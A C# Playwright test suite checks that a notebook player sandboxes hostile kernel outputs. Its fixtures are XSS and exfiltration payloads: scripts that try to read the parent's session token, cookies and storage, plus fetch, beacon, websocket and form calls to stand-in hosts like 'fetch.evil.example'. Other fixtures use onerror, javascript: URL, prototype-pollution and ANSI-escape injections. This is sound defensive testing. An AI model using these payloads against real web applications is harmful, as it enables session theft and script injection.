using System.Text.Json;
using Microsoft.Playwright;
using Neurones.Player.Tests.Browser;
using Neurones.Player.Tests.Support;

namespace Neurones.Player.Tests.Security;

/// <summary>Outputs that were made to harm, in every form that a kernel may send: they reach neither the page nor its token, the server or the network.</summary>
public sealed class MaliciousOutputTests : IDisposable
{
    private readonly TemporaryFolder _folder = new();

    /// <summary>Runs in an output's frame with the server's real token, and writes down what it was able to do.</summary>
    private const string Script = """
        const done = {}, api = 'http://127.0.0.1:PORT/api/kernels?token=TOKEN';
        const late = () => new Promise((resolve, reject) => setTimeout(reject, 3000));
        const attempt = async (name, act) => { try { done[name] = String(await Promise.race([act(), late()])); } catch { done[name] = 'refused'; } };
        const loaded = (tag, source, attribute = 'src') => new Promise((resolve, reject) => {
          const element = Object.assign(document.createElement(tag), { onload: () => resolve('loaded'), onerror: reject, rel: 'stylesheet' });
          element[attribute] = source;
          document.body.append(element);
          setTimeout(reject, 1500);
        });
        const heard = (word, act) => new Promise((resolve, reject) => { addEventListener('message', event => event.data === word && resolve(word)); act(); setTimeout(reject, 1000); });
        const frame = attributes => document.body.append(Object.assign(document.createElement('iframe'), attributes));
        (async () => {
          await Promise.all([
            attempt('parent', () => parent.document.title),
            attempt('top', () => top.sessionStorage.getItem('neurones.token')),
            attempt('parentLocation', () => parent.location.href),
            attempt('frames', () => [...parent.frames].map(frame => frame.document.body.innerHTML)),
            attempt('session', () => sessionStorage.length),
            attempt('local', () => localStorage.length),
            attempt('cookie', () => document.cookie),
            attempt('database', () => new Promise((resolve, reject) => Object.assign(indexedDB.open('x'), { onsuccess: resolve, onerror: reject }))),
            attempt('caches', () => caches.keys()),
            attempt('fetch', async () => (await fetch(api)).status),
            attempt('fetchHeader', async () => (await fetch('/api/kernels', { headers: { Authorization: 'token TOKEN' } })).status),
            attempt('fetchBlind', async () => (await fetch(api, { method: 'POST', mode: 'no-cors' })).type),
            attempt('fetchOut', async () => (await fetch('http://fetch.evil.example:TRAP/', { mode: 'no-cors' })).type),
            attempt('xhr', () => new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.open('GET', api); request.onload = resolve; request.onerror = reject; request.send(); })),
            attempt('socket', () => new Promise((resolve, reject) => Object.assign(new WebSocket(api.replace('http', 'ws').replace('?', '/x/channels?')), { onopen: resolve, onerror: reject }))),
            attempt('socketOut', () => new Promise((resolve, reject) => Object.assign(new WebSocket('ws://ws.evil.example:TRAP/'), { onopen: resolve, onerror: reject }))),
            attempt('events', () => new Promise((resolve, reject) => Object.assign(new EventSource(api), { onopen: resolve, onerror: reject }))),
            attempt('image', () => loaded('img', 'http://img.evil.example:TRAP/')),
            attempt('script', () => loaded('script', 'http://script.evil.example:TRAP/')),
            attempt('ownScript', () => loaded('script', '/assets/page.js')),
            attempt('style', () => loaded('link', 'http://style.evil.example:TRAP/', 'href')),
            attempt('font', () => new FontFace('x', 'url(http://font.evil.example:TRAP/)').load()),
            attempt('import', () => import('http://import.evil.example:TRAP/')),
            attempt('worker', () => heard('worker', () => new Worker(URL.createObjectURL(new Blob(['postMessage("worker")']))).onmessage = event => postMessage(event.data, '*'))),
            attempt('service', () => navigator.serviceWorker.register('/assets/page.js')),
            attempt('open', () => { if (!open('http://open.evil.example:TRAP/')) throw 0; }),
            attempt('openOwn', () => { if (!open('/')) throw 0; }),
            attempt('alert', () => { let shown = false; addEventListener('blur', () => shown = true); alert('x'); if (!shown) throw 0; }),
            attempt('eval', () => eval('1')),
            attempt('calls', () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:TRAP' }] }).createDataChannel('x').label),
            attempt('transport', () => new WebTransport('https://transport.evil.example:TRAP/').ready),
            attempt('nested', () => heard('nested', () => frame({ srcdoc: "<script>parent.postMessage('nested', '*')</scr" + "ipt>" }))),
            attempt('nestedAddress', () => heard('address', () => frame({ src: "javascript:parent.postMessage('address', '*')" }))),
            attempt('clipboard', () => navigator.clipboard.readText()),
            attempt('fullscreen', () => document.documentElement.requestFullscreen()),
            attempt('topLocation', () => { top.location = 'http://top.evil.example:TRAP/'; }),
            attempt('parentReplace', () => { parent.location.replace('http://top.evil.example:TRAP/'); throw 0; }),
          ]);
          navigator.sendBeacon('http://beacon.evil.example:TRAP/', 'x');
          navigator.sendBeacon(api, 'x');
          frame({ src: 'http://frame.evil.example:TRAP/' });
          frame({ src: '/' });
          for (const attributes of [{ target: '_top' }, { target: '_blank' }, { target: '_parent' }]) {
            const link = Object.assign(document.createElement('a'), { href: 'http://link.evil.example:TRAP/', ping: 'http://ping.evil.example:TRAP/', ...attributes });
            document.body.append(link);
            link.click();
          }
          const form = Object.assign(document.createElement('form'), { action: api, method: 'post', target: '_top' });
          document.body.append(form);
          form.submit();
          const cycle = {}; cycle.self = cycle;
          for (const lie of [null, undefined, 0, 'x', [], cycle, { ready: true }, { ready: {} }, { height: 1e9 }, { height: -5 }, { height: NaN }, { height: '1px;position:fixed' }, { html: '<img src=x onerror=owned=1>' }, { __proto__: { ready: true } }, { theme: 'x', html: 'y' }]) {
            for (let i = 0; i < 20; i++) { parent.postMessage(lie, '*'); top.postMessage(lie, '*'); }
          }
          window.report = { origin: self.origin, done };
        })();
        """;

    private static readonly string[] Refused =
    [
        "parent", "top", "parentLocation", "frames", "session", "local", "cookie", "database", "caches", "fetch", "fetchHeader", "fetchBlind", "fetchOut", "xhr", "socket", "socketOut", "events", "image", "script",
        "ownScript", "style", "font", "import", "worker", "service", "open", "openOwn", "alert", "eval", "calls", "transport", "nested", "nestedAddress", "clipboard", "fullscreen", "topLocation", "parentReplace",
    ];

    [NeedsChromiumFact]
    public async Task A_script_in_HTML_can_do_nothing_but_draw()
    {
        using var trap = new Trap();
        await using var hostile = await HostileAsync(trap, (script, _) => [Html($"<p>drawn</p><script>{script}</script>")]);
        var page = hostile.Page;
        var frame = await FrameAsync(page, 0);
        // Not at each frame of the screen: what is out of sight draws none.
        await frame.WaitForFunctionAsync("() => window.report", null, new() { PollingInterval = 100 });
        var report = JsonSerializer.Deserialize<JsonElement>(await frame.EvaluateAsync<string>("() => JSON.stringify(window.report)"));

        Assert.Equal("null", report.GetProperty("origin").GetString());
        var done = report.GetProperty("done").EnumerateObject().ToDictionary(attempt => attempt.Name, attempt => attempt.Value.GetString());
        Assert.Equal(Refused.Order(), done.Keys.Order());
        Assert.DoesNotContain(done, attempt => attempt.Value != "refused");
        Assert.Empty(trap.Heard);
        var height = await page.Locator(".html-frame").First.EvaluateAsync<double>("frame => frame.offsetHeight");
        Assert.InRange(height, 0, 20_000);
        await PageGoesOnAsync(hostile);
    }

    [NeedsChromiumFact]
    public async Task HTML_that_leads_away_or_never_ends_harms_itself_alone()
    {
        using var trap = new Trap();
        await using var hostile = await HostileAsync(trap, (_, set) =>
        [
            Html(set("<meta http-equiv=refresh content='0;url=http://meta.evil.example:TRAP/'>")),
            Html(set("<script>location = 'http://self.evil.example:TRAP/'</script>")),
            Html("<script>location = '/'</script>"),
            Html(set("<a download=x href='http://download.evil.example:TRAP/'>d</a><script>document.querySelector('a').click()</script>")),
            Html("<script>location = '/api/kernels?token=TOKEN'</script>"),
            Html(set("<base href='http://base.evil.example:TRAP/'><img src=x><link rel=stylesheet href=x><script src=x></script>")),
            Html(set("<style>@import 'http://import.evil.example:TRAP/'; @font-face { font-family: x; src: url(http://font.evil.example:TRAP/) } p { background: url(http://css.evil.example:TRAP/); font-family: x }</style><p>x</p>")),
            Html(set("<form action='http://form.evil.example:TRAP/'><input name=a></form><script>document.forms[0].submit()</script>")),
            Html(set("<svg><use href='http://use.evil.example:TRAP/#a'/><image href='http://image.evil.example:TRAP/'/></svg><object data='http://object.evil.example:TRAP/'></object><video src='http://video.evil.example:TRAP/' autoplay></video>")),
            Html(set("<link rel=prefetch href='http://prefetch.evil.example:TRAP/'><link rel=preload as=image href='http://preload.evil.example:TRAP/'><link rel=modulepreload href='http://module.evil.example:TRAP/'><link rel=icon href='http://icon.evil.example:TRAP/'><link rel=manifest href='http://manifest.evil.example:TRAP/'>")),
            Html("<script>setTimeout(() => { while (true); }, 1000)</script>"),
        ]);
        await PageGoesOnAsync(hostile);
        Assert.Empty(trap.Heard);
    }

    [NeedsChromiumFact]
    public async Task Every_other_form_is_shown_as_what_it_is()
    {
        using var trap = new Trap();
        const string own = "<img src=x onerror=\"window.owned=1\"><script>window.owned=1</script>";
        await using var hostile = await HostileAsync(trap, (_, set) =>
        [
            As("text/markdown", set(own + "[a](javascript:window.owned=1) <a href='http://link.evil.example:TRAP/'>out</a> ![x](http://img.evil.example:TRAP/x.png) ![x](../../images/x.png) <iframe src='http://iframe.evil.example:TRAP/'></iframe><svg onload='window.owned=1'></svg>")),
            As("text/latex", set("$\\href{javascript:window.owned=1}{x} \\includegraphics{http://latex.evil.example:TRAP/}$ " + own)),
            As("image/svg+xml", set("<svg xmlns='http://www.w3.org/2000/svg' onload='parent.owned=1;top.owned=1'><script>top.owned=1;fetch('http://svg.evil.example:TRAP/')</script><image href='http://svgimage.evil.example:TRAP/'/><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src='http://fo.evil.example:TRAP/'/></body></foreignObject></svg>")),
            As("image/png", "x\" onerror=\"window.owned=1"),
            As("image/svg+xml", "\"><script>window.owned=1</script>"),
            As("text/plain", own + "\x1b]8;;javascript:window.owned=1\x1b\\link\x1b]8;;\x1b\\ \x1b[31;\"onclick=1m red"),
            As("application/vnd.plotly.v1+json", set(Figure)),
            As("application/vnd.plotly.v1+json", """{"data":null,"layout":{"height":1e12}}"""),
            As("application/vnd.plotly.v1+json", """{"data":[{"type":"scatter","y":[1,2]}],"layout":{"height":1e12,"width":1e12,"title":{"text":"tall"}},"config":{"modeBarButtonsToRemove":7}}"""),
            As("application/vnd.plotly.v1+json", "[1]"),
            As("application/x-unknown", own),
            $"Console.WriteLine({Literal(own)}); Console.Error.WriteLine({Literal(own)});",
            $"throw new Exception({Literal(own + " cell-01:line 1<b>")} + new string('/', 300_000));",
        ]);
        var page = hostile.Page;
        // A figure is drawn when it comes into view.
        foreach (var figure in await page.Locator(".figure").AllAsync())
        {
            await figure.ScrollIntoViewIfNeededAsync();
            await figure.Locator(".main-svg, .plot:not(:empty)").First.WaitForAsync(new() { State = WaitForSelectorState.Attached });
        }

        foreach (var link in await page.Locator(".outputs .prose a").AllAsync())
        {
            Assert.Equal(("_blank", "noopener noreferrer"), (await link.GetAttributeAsync("target"), await link.GetAttributeAsync("rel")));
        }

        Assert.Empty(await page.Locator(".outputs").Locator("script, iframe, object, embed, [onerror], [onload], [onclick], a[href^='javascript' i]").AllAsync());
        // All but those that lead to a web site, as they may.
        await page.Locator(".figure a, .plain-text a").EvaluateAllAsync<JsonElement?>(
            """
            links => links.filter(link => !/^https?:/.test(link.getAttribute("href") ?? link.getAttributeNS("http://www.w3.org/1999/xlink", "href") ?? ""))
              .forEach(link => link.dispatchEvent(new MouseEvent("click", { bubbles: true })))
            """);

        foreach (var figure in await page.Locator(".figure").AllAsync())
        {
            Assert.InRange(await figure.EvaluateAsync<double>("figure => figure.offsetHeight"), 0, 5000);
        }

        await PageGoesOnAsync(hostile);
        Assert.Empty(trap.Heard);
    }

    private const string Figure = """
        {"data":[{"type":"scatter","x":[1,2],"y":[1,2],"name":"<a href=\"javascript:window.owned=1\">n</a><img src=x onerror=window.owned=1>","text":["<a href='javascript:window.owned=1'>p</a>","<script>window.owned=1</script>"],"mode":"markers+text",
          "hovertemplate":"<a href='javascript:window.owned=1'>h</a><img src=x onerror=window.owned=1>","customdata":["<img src=x onerror=window.owned=1>"],"marker":{"color":"url(http://colour.evil.example:TRAP/)"}}],
         "layout":{"title":{"text":"<a href='javascript:window.owned=1' target='_top'>t</a><b onclick='window.owned=1'>b</b><a href='http://title.evil.example:TRAP/' style='background:url(http://style.evil.example:TRAP/)'>x</a>"},
          "annotations":[{"text":"<a href='  java\nscript:window.owned=1'>a</a>","x":1,"y":1},{"text":"$\\href{javascript:window.owned=1}{x}$","x":2,"y":2}],
          "images":[{"source":"http://layout.evil.example:TRAP/x.png","xref":"x","yref":"y","x":1,"y":1,"sizex":1,"sizey":1},{"source":"javascript:window.owned=1","x":0,"y":0,"sizex":1,"sizey":1},{"source":"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.owned=1'/>","x":0,"y":0,"sizex":1,"sizey":1}],
          "template":{"layout":{"images":[{"source":"http://template.evil.example:TRAP/x.png"}]}},"font":{"family":"x;background:url(http://font.evil.example:TRAP/)"},
          "updatemenus":[{"type":"buttons","buttons":[{"label":"<img src=x onerror=window.owned=1>","method":"restyle","args":["__proto__.owned",1]}]}],"__proto__":{"owned":1}},
         "config":{"plotlyServerURL":"http://server.evil.example:TRAP/","showSendToCloud":true,"showEditInChartStudio":true,"linkText":"<img src=x onerror=window.owned=1>","showLink":true,"topojsonURL":"http://topo.evil.example:TRAP/","mapboxAccessToken":"x","locale":"x","editable":true,"toImageButtonOptions":{"filename":"<img>"}},
         "frames":[{"name":"__proto__","data":[{"y":[1]}],"traces":[0]}]}
        """;

    public void Dispose() => _folder.Dispose();

    private static string Literal(string text) => JsonSerializer.Serialize(text);

    private static string Html(string html) => $"HTML({Literal(html)})";

    private static string As(string mime, string data) => $"{Literal(data)}.DisplayAs({Literal(mime)});";

    /// <summary>A lesson of these cells, and a last one that counts; all have run.</summary>
    private async Task<LessonPage> HostileAsync(Trap trap, Func<string, Func<string, string>, string[]> cells)
    {
        TestNotebook.Write(_folder["notebooks/en/01-hostile.ipynb"], TestNotebook.Markdown("# 1 · Hostile"));
        var lesson = await LessonPage.OpenAsync(_folder.Path, Trap.BrowserArgument);
        string Set(string text) => trap.Set(text)
            .Replace("PORT", $"{lesson.Address.Port}", StringComparison.Ordinal)
            .Replace("TOKEN", lesson.Address.Query["?token=".Length..], StringComparison.Ordinal);
        TestNotebook.Write(
            _folder["notebooks/en/01-hostile.ipynb"],
            [TestNotebook.Markdown("# 1 · Hostile"), .. cells(Set(Script), Set).Select(cell => TestNotebook.Code(cell, "raises-exception")), TestNotebook.Code("6 * 7")]);
        await lesson.ChooseAsync(1);
        await lesson.Page.GetByRole(AriaRole.Button, new() { Name = "Run all" }).ClickAsync();
        await lesson.RunEndedAsync();
        return lesson;
    }

    private static async Task<IFrame> FrameAsync(IPage page, int index) =>
        await (await page.Locator(".html-frame").Nth(index).ElementHandleAsync()).ContentFrameAsync() ?? throw new InvalidOperationException("The output has no frame.");

    private static async Task PageGoesOnAsync(LessonPage lesson)
    {
        var page = lesson.Page;
        await page.EvaluateAsync("() => new Promise(resolve => setTimeout(resolve, 1500))");
        // A link that is no script may open a tab, at worst to an address here that isn't there.
        Assert.All(page.Context.Pages, tab => Assert.Equal(lesson.Address.GetLeftPart(UriPartial.Authority), new Uri(tab.Url).GetLeftPart(UriPartial.Authority)));
        Assert.EndsWith("#/en/01-hostile", page.Url, StringComparison.Ordinal);
        Assert.Equal(JsonValueKind.Null, (await page.EvaluateAsync<JsonElement>("() => window.owned ?? ({}).owned ?? null")).ValueKind);
        var last = page.Locator(".cell").Last;
        await last.Locator(".cm-content").FillAsync("40 + 3");
        await last.Locator(".run").ClickAsync();
        await last.GetByText("43", new() { Exact = true }).WaitForAsync();
    }
}
